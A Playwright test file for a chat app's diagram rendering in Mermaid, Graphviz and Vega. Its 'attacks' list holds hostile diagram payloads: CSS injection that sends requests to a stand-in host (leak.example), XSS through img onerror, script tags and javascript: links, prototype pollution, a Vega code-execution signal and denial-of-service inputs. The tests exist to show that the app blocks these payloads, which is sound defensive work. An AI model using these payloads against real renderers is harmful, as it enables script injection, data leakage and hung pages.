import { readFileSync } from 'node:fs'
import { expect, type Locator, type Page, test } from '@playwright/test'
import { launchOptions } from '../browser'
import { dangerousNodes, watch } from '../stress/payloads/watch'
import { expectAccessible, expectContrast } from '../support/axe'
import { answers, ask, askAndWait, openChat } from '../support/chat'
import { pastedText } from '../support/clipboard'
import { expectNoSidewaysScroll } from '../support/layout'
import { recordTroubles } from '../support/troubles'

// Browsers on a desktop give frames without an origin a process of their own; the headless shell must be told.
test.use({
  launchOptions: { ...launchOptions(), args: [...launchOptions().args, '--site-per-process'] },
})

const figures = (page: Page) => answers(page).last().getByRole('figure', { name: 'Diagram' })
const notes = (page: Page) => answers(page).last().getByRole('note')
const fence = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\`\n`

/** Reads an answer from its beginning, as fast as its diagrams are drawn, until all of them are or say why not. */
async function readAll(page: Page, count: number): Promise<void> {
  await answers(page)
    .last()
    .evaluate((answer) => answer.scrollIntoView())
  await answers(page)
    .last()
    .hover({ position: { x: 5, y: 5 } })
  await expect(async () => {
    await page.mouse.wheel(0, 500)
    expect((await figures(page).count()) + (await notes(page).count())).toBe(count)
  }).toPass({ intervals: [200], timeout: 60_000 })
}

const pictureOf = (figure: Locator) => figure.getByRole('img').first()
const widthOf = async (element: Locator) => (await element.boundingBox())?.width ?? 0

const kinds: ReadonlyArray<readonly [language: string, code: string]> = [
  ['mermaid', 'flowchart TD\n  A[Start] --> B{Ready?}\n  B -- no --> A\n  style A fill:#f9f'],
  ['mermaid', 'sequenceDiagram\n  A->>B: Hello\n  Note over A,B: later\n  B-->>A: Hi'],
  ['mermaid', 'classDiagram\n  Animal <|-- Dog\n  class Dog { +bark() void }'],
  ['mermaid', 'stateDiagram-v2\n  [*] --> Idle\n  Idle --> [*]'],
  ['mermaid', 'gantt\n  dateFormat YYYY-MM-DD\n  section S\n  Work :a, 2026-01-01, 9d\n  More :after a, 4d'],
  ['mermaid', 'pie title Pets\n  "Dogs" : 3\n  "Cats" : 2'],
  ['mmd', 'mindmap\n  root((Parley))\n    Chat\n    Compare'],
  ['mermaid', 'erDiagram\n  CUSTOMER ||--o{ ORDER : places\n  CUSTOMER { string name }'],
  ['dot', 'digraph { rankdir=LR; A -> B [label="to"]; B [style=filled, fillcolor=lightblue] }'],
  [
    'vega-lite',
    '{"data":{"values":[{"a":"A","b":2},{"a":"B","b":5}]},"mark":"bar","encoding":{"x":{"field":"a"},"y":{"field":"b","type":"quantitative"}}}',
  ],
]

test('diagrams of every kind are drawn in the theme of the page, on a phone, too', async ({ page }) => {
  const troubles = recordTroubles(page)
  await openChat(page, 'echo')
  const mistake = fence('mermaid', 'flowchart TD\n  A --> [')
  const elsewhere = fence('vega-lite', '{"data":{"url":"https://leak.example/a.csv"},"mark":"bar"}')
  const blocks = kinds.map(([language, code]) => fence(language, code))
  await askAndWait(page, `Some diagrams.\n\n${[...blocks, mistake, elsewhere].join('\n')}`)
  await readAll(page, kinds.length + 2)
  await expect(figures(page)).toHaveCount(kinds.length)
  await expect(notes(page).first()).toContainText('This diagram can’t be drawn. Parse error on line 2')
  await expect(notes(page).last()).toContainText('data is at an address')
  await expect(answers(page).last().getByText('A --> [')).toBeVisible()
  for (const figure of await figures(page).all()) {
    const size = await pictureOf(figure).evaluate((picture) =>
      picture instanceof HTMLImageElement ? picture.naturalWidth * picture.naturalHeight : 0,
    )
    expect(size).toBeGreaterThan(1000)
  }
  await expectAccessible(page)
  const colors = (theme: string) =>
    figures(page)
      .getByRole('img')
      .evaluateAll((pictures, color) => {
        const wanted = encodeURIComponent(color)
        return pictures.filter((picture) => picture.getAttribute('src')?.includes(wanted) !== true).length
      }, theme)
  expect(await colors('rgb(255, 255, 255)')).toBe(0)
  await page.emulateMedia({ colorScheme: 'dark', reducedMotion: 'reduce' })
  await expect.poll(() => colors('rgb(23, 24, 26)'), { timeout: 30_000 }).toBe(0)
  await expectContrast(page)
  await page.setViewportSize({ width: 360, height: 740 })
  await expectNoSidewaysScroll(page)
  expect(troubles).toEqual([])
})

test('a diagram is zoomed and moved by keys, fills the screen, and is taken along', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-write'])
  await openChat(page, 'echo')
  const source = 'flowchart TD\n  accTitle: The way\n  A[From] --> B["<b>To</b>"]'
  await askAndWait(page, `Here.\n\n${fence('mermaid', source)}`)
  const answer = answers(page).last()
  const figure = figures(page)
  const inFigure = (name: string) => figure.getByRole('button', { name, exact: true })
  const picture = pictureOf(figure)
  await expect(figure.getByRole('img', { name: 'The way' })).toBeVisible()
  const view = figure.getByRole('group', { name: 'View of the diagram' })
  const width = await widthOf(picture)
  await view.focus()
  await view.press('+')
  await view.press('+')
  await view.press('+')
  expect(await widthOf(picture)).toBeGreaterThan(width * 2)
  const left = (await picture.boundingBox())?.x ?? 0
  await view.press('ArrowUp')
  await view.press('-')
  expect(await widthOf(picture)).toBeLessThan(width * 2)
  await view.press('0')
  expect(await widthOf(picture)).toBe(width)
  expect((await picture.boundingBox())?.x).toBeGreaterThan(left)

  await inFigure('Full screen').click()
  const dialog = page.getByRole('dialog', { name: 'Diagram' })
  await expect(dialog.getByRole('group', { name: 'View of the diagram' })).toBeFocused()
  await dialog.press('+')
  await dialog.press('Escape')
  await expect(dialog).toHaveCount(0)
  await expect(inFigure('Full screen')).toBeFocused()

  const save = async (name: string) => {
    const [download] = await Promise.all([page.waitForEvent('download'), inFigure(name).click()])
    return readFileSync(await download.path())
  }
  const svg = (await save('Download SVG')).toString()
  expect(svg).toMatch(/^<svg [^>]*xmlns="http:\/\/www\.w3\.org\/2000\/svg"/)
  expect(svg).toContain('From')
  expect(svg).not.toMatch(/<script|<foreignObject|\son\w+=|href="(?!#)|url\((?!"?#)|@import/i)
  expect((await save('Download PNG')).subarray(1, 4).toString()).toBe('PNG')

  await answer.getByRole('button', { name: 'Show source' }).click()
  await expect(figure).toBeHidden()
  await answer.getByRole('button', { name: 'Copy code' }).click()
  await expect.poll(async () => (await pastedText(page)).trim()).toBe(source)
  await answer.getByRole('button', { name: 'Show diagram' }).click()
  await answer.getByRole('button', { name: 'Open beside the chat' }).click()
  const pane = page.getByRole('complementary', { name: 'Artifact' })
  await expect(pane.getByRole('figure', { name: 'Diagram' })).toBeVisible()
  await pane.getByRole('button', { name: 'Source', exact: true }).click()
  await expect(pane.getByText('accTitle: The way')).toBeVisible()
})

const address = 'https://leak.example/'

/** What advisories on Mermaid warn of, and the same for the other engines. */
const attacks: ReadonlyArray<readonly [language: string, code: string]> = [
  [
    'mermaid',
    `%%{init: {"themeCSS": "} *:has(a) { background: url(${address}1) }", "fontFamily": "x; } * { background: url(${address}2) } {"}}%%\nflowchart LR\nA --> B`,
  ],
  [
    'mermaid',
    `%%{init: {"theme": "base", "themeVariables": {"primaryColor": "red; } * { background: url(${address}3) }"}}}%%\nflowchart LR\nA --> B`,
  ],
  ['mermaid', `flowchart LR\nA --> B\nclassDef a fill:red;}*{background:url(${address}4)}\nclass A a`],
  ['mermaid', `flowchart LR\nA --> B\nclassDef a background:url(${address}5)\nclass A a`],
  [
    'mermaid',
    `%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}}%%\nflowchart LR\nA --> B`,
  ],
  [
    'mermaid',
    'gantt\ndateFormat YYYY-MM-DD\nexcludes monday,tuesday,wednesday,thursday,friday,saturday,sunday\nsection S\nA :a, 2026-01-01, 5d',
  ],
  [
    'mermaid',
    'gantt\ndateFormat YYYY-MM-DD\ntickInterval 1millisecond\nsection S\nA :a, 1000-01-01, 400000d',
  ],
  [
    'mermaid',
    'xychart-beta\nx-axis [a]\ny-axis 9007199254740992 --> 9007199254740993\nline [9007199254740993]',
  ],
  ['mermaid', 'radar-beta\naxis a["A"], b["B"], c["C"]\ncurve x{1, 2, 3}\nticks 1000000000\nmax 10'],
  [
    'mermaid',
    'architecture-beta\ngroup __proto__(cloud)[API]\nservice constructor(database)[DB] in __proto__\nservice toString(disk)[S] in __proto__\nconstructor:L -- R:toString',
  ],
  [
    'mermaid',
    `flowchart LR\nA@{ img: "${address}6.png", label: "x", w: 60, h: 60 }\nB["<img src=${address}7 onerror=alert(1)>"]\nC["<script>alert(1)</script>"]`,
  ],
  ['mermaid', 'flowchart LR\nA --> B\nclick A "javascript:alert(1)"\nclick B call alert(1)'],
  [
    'dot',
    `digraph { A [URL="javascript:alert(1)", image="${address}8.png"]; B [label=<<IMG SRC="${address}9.png"/>>]; A -> B; stylesheet="${address}10" }`,
  ],
  ['vega', `{"marks":[{"type":"image","encode":{"enter":{"url":{"value":"${address}11.png"}}}}]}`],
  [
    'vega',
    '{"signals":[{"name":"x","update":"constructor.constructor(\'alert(1)\')()"}],"marks":[{"type":"text","encode":{"enter":{"text":{"signal":"x"},"href":{"value":"javascript:alert(1)"}}}}]}',
  ],
]

test('a hostile diagram runs no script, sends no request, and blocks neither the page nor other diagrams', async ({
  page,
  context,
  baseURL,
}) => {
  const harm = await watch(context, page, new URL(baseURL ?? '').host)
  await openChat(page, 'echo')
  // All nodes with all nodes: Graphviz is not done with that in a minute.
  const names = Array.from({ length: 100 }, (_, at) => `n${at}`).join(' ')
  const endless = fence('dot', `digraph { subgraph g { ${names} } -> subgraph g {} }`)
  const good = fence('mermaid', 'flowchart LR\n  accTitle: It survived\n  A --> B')
  const blocks = attacks.map(([language, code]) => fence(language, code))
  await page.evaluate(() => {
    let last = performance.now()
    const tick = () => {
      const now = performance.now()
      const { dataset } = document.documentElement
      dataset['longest'] = String(Math.max(Number(dataset['longest'] ?? 0), now - last))
      last = now
      setTimeout(tick)
    }
    tick()
  })
  const answer = await ask(page, `All at once.\n\n${[endless, ...blocks, good].join('\n')}`)
  await expect(answer).toHaveAttribute('aria-busy', 'false', { timeout: 60_000 })
  await page.evaluate(() => {
    document.documentElement.dataset['longest'] = '0'
  })
  await readAll(page, attacks.length + 2)
  await expect(notes(page).first()).toHaveText('This diagram took longer than 5 s to draw.')
  await expect(figures(page).getByRole('img', { name: 'It survived' })).toBeVisible()
  // Endless work was in the frame for 5 s, five times what this allows.
  const longest = await page.evaluate(() => Number(document.documentElement.dataset['longest']))
  test.info().annotations.push({ type: 'longest task of the page', description: `${longest} ms` })
  expect(longest).toBeLessThan(1000)
  expect(await page.evaluate(dangerousNodes, '[role=log]')).toEqual([])
  expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([])
  expect(harm).toMatchObject({ ran: [], left: [] })
})

test('without its engine a diagram is its source, until it is tried again', async ({ page }) => {
  await openChat(page, 'echo')
  await page.route('**/viz-global*.js', (route) => route.abort())
  await askAndWait(page, `Here.\n\n${fence('dot', 'digraph { A -> B }')}`)
  await expect(notes(page)).toContainText('Couldn’t load what draws this diagram.')
  await expect(answers(page).last().getByText('digraph { A -> B }')).toBeVisible()
  await page.unrouteAll()
  await notes(page).getByRole('button', { name: 'Try again' }).click()
  await expect(figures(page)).toBeVisible()
})
